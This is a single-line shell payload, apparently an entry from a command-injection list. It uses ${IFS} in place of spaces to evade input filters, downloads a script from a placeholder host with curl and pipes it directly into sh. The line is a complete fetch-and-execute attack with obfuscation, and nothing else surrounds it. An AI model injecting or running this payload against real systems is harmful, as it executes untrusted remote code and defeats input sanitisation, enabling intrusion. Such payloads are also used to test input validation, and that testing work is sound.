curl${IFS}-s${IFS}https://get.example.net/x|sh
